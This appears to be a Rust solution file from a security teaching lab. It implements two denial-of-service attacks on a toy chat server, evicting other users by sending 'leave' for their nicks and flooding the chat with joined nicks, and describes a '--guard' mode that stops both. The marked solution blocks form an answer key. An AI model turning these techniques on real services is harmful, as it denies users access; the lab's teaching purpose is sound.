//! The lab's simple_dos.py: denying the chat to its users by abusing the
//! original's trust model, in which the server believes whatever nick a
//! request names.
//!
//! - Evict: any client may send `leave` for any nick, so the victim is
//!   dropped and its next message is refused until it joins again.
//! - Flood: any client may join as many nicks as it likes, and on the
//!   original's model they stay joined after it goes, crowding the chat with
//!   ghosts and taking the names others wanted.
//!
//! A server started with `--guard` stops both: a nick belongs to the request
//! connection that joined it (someone else's `leave` gets `ko`), one
//! connection holds at most `MAX_NICKS_PER_CONNECTION` (16) nicks, and they are
//! freed when it closes.

use crate::client::simple_client::{Joined, join_random};
use crate::client::{ClientError, Endpoint, RequestChannel};
use crate::wire::{Nick, Request, Response};

/// The two attacks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Attack {
    /// Send `leave` for someone else's nick.
    Evict(Nick),
    /// Join this many random nicks on one connection.
    Flood(usize),
}

/// What an attack achieved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Report {
    Evict(Eviction),
    Flood(Flood),
}

impl Report {
    /// Whether the attack did what it says.
    pub fn succeeded(&self) -> bool {
        match self {
            Self::Evict(eviction) => eviction.succeeded(),
            Self::Flood(flood) => flood.succeeded(),
        }
    }
}

/// Runs one attack on a request connection of its own.
pub fn run(endpoint: &Endpoint, attack: &Attack) -> Result<Report, ClientError> {
    let mut requests = RequestChannel::connect(endpoint)?;
    Ok(match attack {
        Attack::Evict(victim) => Report::Evict(evict(&mut requests, victim)?),
        Attack::Flood(count) => Report::Flood(flood(&mut requests, *count)?),
    })
}

/// The server's answer to an eviction.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Eviction {
    pub victim: Nick,
    pub answer: Response,
}

impl Eviction {
    pub fn succeeded(&self) -> bool {
        self.answer == Response::Ok
    }
}

/// Python's `leave`, for a nick that is not ours: the original's server
/// never asks who is sending it.
pub fn evict(requests: &mut RequestChannel, victim: &Nick) -> Result<Eviction, ClientError> {
    // BEGIN SOLUTION (step 2: the eviction, a request the original's server never questions)
    let answer = requests.request(&Request::Leave {
        nick: victim.clone(),
    })?;
    Ok(Eviction {
        victim: victim.clone(),
        answer,
    })
    // END SOLUTION
}

/// How far a flood got.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Flood {
    /// Nicks asked for.
    pub wanted: usize,
    /// Nicks joined, in order.
    pub joined: Vec<Nick>,
    /// Why the server stopped the flood, if it did.
    pub refusal: Option<String>,
}

impl Flood {
    pub fn succeeded(&self) -> bool {
        self.joined.len() == self.wanted
    }
}

/// Joins `count` random nicks on one connection, stopping at the first nick
/// the server keeps refusing.
pub fn flood(requests: &mut RequestChannel, count: usize) -> Result<Flood, ClientError> {
    // BEGIN SOLUTION (step 2: the flood, nicks joined until the server stops it)
    let mut flood = Flood {
        wanted: count,
        joined: Vec::new(),
        refusal: None,
    };
    while flood.joined.len() < count {
        match join_random(requests)? {
            Joined::As(nick) => flood.joined.push(nick),
            Joined::Refused(reason) => {
                flood.refusal = Some(reason);
                break;
            }
        }
    }
    Ok(flood)
    // END SOLUTION
}
